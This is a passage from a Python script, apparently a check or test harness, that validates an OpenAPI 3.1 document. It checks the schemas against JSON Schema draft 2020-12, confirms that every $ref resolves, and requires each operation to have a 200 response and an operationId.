    checks.check(doc.get("openapi", "").startswith("3.1."), "the document says openapi 3.1.x")
    bad = []
    for name, schema in doc["components"]["schemas"].items():
        try:
            jsonschema.Draft202012Validator.check_schema(schema)
        except jsonschema.SchemaError as e:
            bad.append(f"{name}: {e.message}")
    refs = []

    def walk(node):
        if isinstance(node, dict):
            if "$ref" in node:
                refs.append(node["$ref"])
            for v in node.values():
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)
    walk(doc)
    for r in refs:
        target = doc
        for part in r.lstrip("#/").split("/"):
            target = target.get(part) if isinstance(target, dict) else None
        if target is None:
            bad.append(f"unresolved {r}")
    for path, item in doc["paths"].items():
        for method, op in item.items():
            if not op.get("responses") or "200" not in op["responses"] or not op.get("operationId"):
                bad.append(f"{method} {path}: no 200 response or operationId")
    checks.check(not bad, f"the document's schemas are valid draft 2020-12 and its {len(refs)} $refs resolve", "\n".join(bad))


if __name__ == "__main__":
    sys.exit(main())
